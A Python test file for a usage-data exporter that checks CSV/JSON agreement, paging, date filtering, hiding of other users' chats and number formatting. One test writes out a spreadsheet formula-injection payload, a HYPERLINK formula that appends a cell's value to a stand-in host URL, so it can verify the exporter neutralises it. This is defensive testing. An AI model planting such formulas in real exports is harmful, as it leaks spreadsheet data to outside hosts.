"""Exports: every row, every number as it is, no formula, and nothing that may not be named."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Collection
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest

from tuppence.ledger.household import Ledger
from tuppence.llm import TokenUsage
from tuppence.store import Store
from tuppence.usage import ExportFormat, UsageLog, exported_usage
from tuppence.usage.exports import _PAGE, cell_of

from .rows import BEGIN, opened, recorded

pytestmark = pytest.mark.anyio


async def exported(store: Store, kind: ExportFormat, **options: Any) -> str:
    pieces = [piece async for piece in exported_usage(Ledger(store, 1), kind, **options)]
    return b"".join(pieces).decode()


async def table(store: Store, **options: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(await exported(store, "csv", **options), newline="")))


async def test_both_formats_tell_the_same(log: UsageLog, store: Store) -> None:
    row = opened(chat_id="c", message_id="m", turn_id="t", round=2)
    await recorded(log, row, usage=TokenUsage(1000, 200, 300, 100, 50), answered_model="claude-sonnet-5")
    await recorded(log, opened(BEGIN + timedelta(hours=1)), usage=TokenUsage(), outcome="failed", status=429)
    await recorded(log, opened(household_id=2))
    cells, values = await table(store), json.loads(await exported(store, "json"))
    assert [one["id"] for one in cells] == [one["id"] for one in values]
    assert len(values) == 2
    first, failed = values
    assert {name: first[name] for name in ("chat", "message", "turn", "round", "run")} == {
        "chat": "c",
        "message": "m",
        "turn": "t",
        "round": 2,
        "run": None,
    }
    assert first["cost_usd"] == cells[0]["cost_usd"] == "0.00351"
    assert first["price_cache_read_mtok"] == cells[0]["price_cache_read_mtok"] == "0.2"
    assert (first["input_tokens"], first["seconds"], first["tokens_estimated"]) == (1000, "3.000000", False)
    assert (failed["status"], failed["cost_usd"], failed["input_tokens"]) == (429, None, None)
    assert (cells[1]["status"], cells[1]["cost_usd"], cells[1]["input_tokens"]) == ("429", "", "")
    assert list(first) == list(cells[0])


async def test_nothing_is_an_empty_list_and_a_table_of_names(store: Store) -> None:
    assert json.loads(await exported(store, "json")) == []
    assert (await exported(store, "csv")).startswith("id,started_at,")
    assert await table(store) == []


async def test_no_row_is_lost_between_two_pages(log: UsageLog, store: Store) -> None:
    for number in range(_PAGE + 3):
        await log.open(opened(BEGIN + timedelta(seconds=number // 7)))  # several at the same moment
    rows = json.loads(await exported(store, "json"))
    assert len({one["id"] for one in rows}) == len(rows) == _PAGE + 3
    assert [one["id"] for one in await table(store)] == [one["id"] for one in rows]
    assert [one["started_at"] for one in rows] == sorted(one["started_at"] for one in rows)


async def test_only_the_days_that_were_asked_for(log: UsageLog, store: Store) -> None:
    rows = [await recorded(log, opened(BEGIN + timedelta(days=number))) for number in range(4)]
    found = await table(store, since=rows[1].started_at, until=rows[3].started_at)
    assert [one["id"] for one in found] == [rows[1].id, rows[2].id]


async def test_chats_of_others_are_not_named(log: UsageLog, store: Store) -> None:
    for chat in ("mine", "theirs"):
        await recorded(log, opened(chat_id=chat, message_id=f"{chat} m", turn_id=f"{chat} t"))

    async def readable(chats: Collection[str]) -> Collection[str]:
        return {"mine"} & set(chats)

    text = await exported(store, "json", readable=readable)
    assert "theirs" not in text
    assert sorted(one["turn"] or "" for one in json.loads(text)) == ["", "mine t"]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
async def test_no_text_is_a_formula(log: UsageLog, store: Store, begin: str) -> None:
    name = f'{begin}HYPERLINK("http://example.com?"&A1)'
    await recorded(log, opened(model=name, operation=name[:32]), answered_model=name, request_id=name)
    (row,) = await table(store)
    assert row["model"] == row["answered_model"] == row["request_id"] == f"'{name}"
    assert not any(cell.startswith(begin) for cell in row.values())
    assert json.loads(await exported(store, "json"))[0]["model"] == name


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-3, "-3"), (Decimal("1E-9"), "0.000000001"), (Decimal("1E+2"), "100"), (True, "true"), (None, ""), ("-3", "'-3")],
)
def test_numbers_stay_numbers(value: object, cell: str) -> None:
    assert cell_of(value) == cell
